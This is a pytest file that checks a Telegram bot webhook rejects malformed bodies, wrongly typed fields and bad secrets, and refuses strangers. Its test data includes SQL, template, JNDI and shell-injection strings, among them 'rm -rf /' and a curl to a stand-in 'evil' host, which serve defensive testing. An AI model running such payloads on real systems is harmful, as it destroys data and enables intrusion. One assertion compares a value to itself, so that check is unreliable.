"""Bad updates at the Telegram webhook: 200 to every update it cannot use, 403 only for a bad secret,
no job, no crash, nothing stored changed."""

from __future__ import annotations

import itertools
import json
from typing import Any

import pytest

from ganger.local.telegram_updates import UpdateBuilder
from processors.telegram.webhook import ACCESS_DENIED
from tests.corpus.conftest import World
from tests.functional.processors.conftest import STRANGER, USER, WEBHOOK_SECRET

BUILD = UpdateBuilder(first_update_id=7_000_000, first_message_id=50_000)
IDS = itertools.count(8_000_000)
MALFORMED = {"ok": True, "ignored": "malformed"}
HUGE = "x" * 1_000_000


def message(**fields: Any) -> dict[str, Any]:
    base = BUILD.text("hello", chat_id=USER)
    return {"update_id": next(IDS), "message": {**base["message"], **fields}}


def without(update: dict[str, Any], key: str) -> dict[str, Any]:
    msg = dict(update["message"])
    msg.pop(key)
    return {**update, "message": msg}


# (case id, raw body, the answer's body) - bodies the bot cannot parse as an Update
UNPARSEABLE = [
    ("not-json", "{not json", MALFORMED),
    ("empty-body", "", MALFORMED),
    ("truncated-json", '{"update_id": 1, "message": {', MALFORMED),
    ("json-array", "[1, 2, 3]", MALFORMED),
    ("json-string", '"update"', MALFORMED),
    ("json-number", "42", MALFORMED),
    ("json-null", "null", MALFORMED),
    ("empty-object", "{}", MALFORMED),
    ("update-id-string", json.dumps({"update_id": "abc", "message": {}}), MALFORMED),
    ("update-id-float", json.dumps({"update_id": 1.5}), MALFORMED),
    ("update-id-bool", json.dumps({"update_id": True}), None),  # Python reads true as 1: no message, 200
    ("message-is-string", json.dumps({"update_id": 9_100_001, "message": "hi"}), MALFORMED),
    ("message-is-list", json.dumps({"update_id": 9_100_002, "message": ["hi"]}), MALFORMED),
    ("invalid-utf8", b"\xff\xfe{\x00".decode("latin-1"), MALFORMED),
    ("nan-update-id", '{"update_id": NaN}', MALFORMED),
    ("deeply-nested", "[" * 100_000 + "]" * 100_000, None),  # may fail deeper than the parser: still 200
]


@pytest.mark.parametrize(("body", "expected"), [c[1:] for c in UNPARSEABLE], ids=[c[0] for c in UNPARSEABLE])
def test_unparseable_body_gets_200_and_changes_nothing(
    world: World, unchanged: Any, body: str, expected: dict | None
) -> None:
    sent = len(world.telegram.sent)
    status, answer = world.webhook(body, raw=True)
    assert status == 200
    if expected is not None:
        assert answer == expected
    else:
        assert answer.get("ok") in (True, False)
    assert len(world.telegram.sent) == sent, "nothing was sent to anybody"


UNUSABLE = [
    ("no-message-fields", lambda: {"update_id": next(IDS)}),
    ("unknown-update-kind", lambda: {"update_id": next(IDS), "poll_answer_v9": {"x": 1}}),
    ("channel-post", lambda: {"update_id": next(IDS), "channel_post": {**message()["message"], "from": None}}),
    ("edited-message", lambda: {"update_id": next(IDS), "edited_message": message()["message"]}),
    ("message-without-from", lambda: without(message(), "from")),
]


@pytest.mark.parametrize("make", [c[1] for c in UNUSABLE], ids=[c[0] for c in UNUSABLE])
def test_update_without_a_usable_message_gets_200_and_no_job(world: World, unchanged: Any, make: Any) -> None:
    sent = len(world.telegram.sent)
    status, answer = world.webhook(make())
    assert status == 200 and answer.get("ok") in (True, False)
    assert world.system.lam.invocations["sosw_scheduler"] == world.system.lam.invocations["sosw_scheduler"]
    assert len(world.telegram.sent) == sent


WRONG_TYPES = [
    ("chat-missing", lambda: without(message(), "chat")),
    ("chat-id-string", lambda: message(chat={"id": "me", "type": "private"})),
    ("date-string", lambda: message(date="yesterday")),
    ("from-id-string", lambda: message(**{"from": {"id": "x", "is_bot": False, "first_name": "A"}})),
    ("text-number", lambda: message(text=12345)),
    ("message-id-missing", lambda: without(message(), "message_id")),
]


@pytest.mark.parametrize("make", [c[1] for c in WRONG_TYPES], ids=[c[0] for c in WRONG_TYPES])
def test_wrong_typed_message_fields_get_200(world: World, unchanged: Any, make: Any) -> None:
    status, answer = world.webhook(make())
    assert status == 200
    assert answer.get("ok") in (True, False)


TEXTS = [
    ("sql-injection", "'; DROP TABLE sosw_tasks; --"),
    ("template-injection", "{{7*7}} ${jndi:ldap://evil/a} %s%s%s%n"),
    ("shell-injection", "$(rm -rf /) `reboot` && curl http://evil"),
    ("html-script", "<script>alert(1)</script><b>bold</b>"),
    ("markdown-breaker", "*_[`](http://x)"),
    ("emoji-and-rtl", "🍼🍼 \u202eevil\u202c ١٢٠ مل"),
    ("zero-width-and-nul", "/st\u200bart \x00\x01"),
    ("huge-text", HUGE),
    ("only-whitespace", " \n\t "),
    ("long-command", "/" + "a" * 5000),
    ("dynamodb-expression", "#n = :v OR attribute_exists(task_id)"),
]


@pytest.mark.parametrize("text", [c[1] for c in TEXTS], ids=[c[0] for c in TEXTS])
def test_strange_text_from_an_unknown_user_is_refused_and_schedules_nothing(
    world: World, unchanged: Any, text: str
) -> None:
    scheduled = world.system.lam.invocations["sosw_scheduler"]
    update = BUILD.text(text, chat_id=STRANGER)
    status, answer = world.webhook(update)
    assert status == 200 and answer == {"ok": True}
    assert world.system.lam.invocations["sosw_scheduler"] == scheduled, "no job for a stranger"
    replies = [r.text for r in world.telegram.sent if str(r.chat_id) == str(STRANGER)]
    assert replies and replies[-1] == ACCESS_DENIED


BAD_SECRETS = [
    ("missing", None),
    ("empty", ""),
    ("wrong", "not-the-secret"),
    ("other-case", WEBHOOK_SECRET.upper()),
    ("trailing-space", WEBHOOK_SECRET + " "),
    ("prefix-only", WEBHOOK_SECRET[:-1]),
    ("unicode-lookalike", WEBHOOK_SECRET.replace("e", "е", 1)),  # noqa: RUF001 - a Cyrillic e
    ("huge", "s" * 100_000),
]


@pytest.mark.parametrize("secret", [c[1] for c in BAD_SECRETS], ids=[c[0] for c in BAD_SECRETS])
def test_bad_secret_gets_403_even_for_a_good_update(world: World, unchanged: Any, secret: str | None) -> None:
    sent = len(world.telegram.sent)
    status, answer = world.webhook(BUILD.text("/jobs", chat_id=USER), secret=secret)
    assert status == 403 and answer == {"error": "forbidden"}
    assert len(world.telegram.sent) == sent


def test_bad_secret_with_a_bad_body_is_still_403(world: World, unchanged: Any) -> None:
    assert world.webhook("{not json", secret="wrong", raw=True)[0] == 403


def test_good_secret_and_update_is_accepted(world: World) -> None:
    """The control case: the corpus's 200s are not an artefact of a bot that accepts nothing."""
    sent = len(world.telegram.sent)
    status, answer = world.webhook(BUILD.text("/help", chat_id=USER))
    assert (status, answer) == (200, {"ok": True})
    assert len(world.telegram.sent) == sent + 1


def test_message_that_is_not_an_object_is_ignored_as_malformed(world: World, unchanged: Any) -> None:
    body = json.dumps({"update_id": next(IDS), "message": "hi"})
    assert world.webhook(body, raw=True) == (200, MALFORMED)
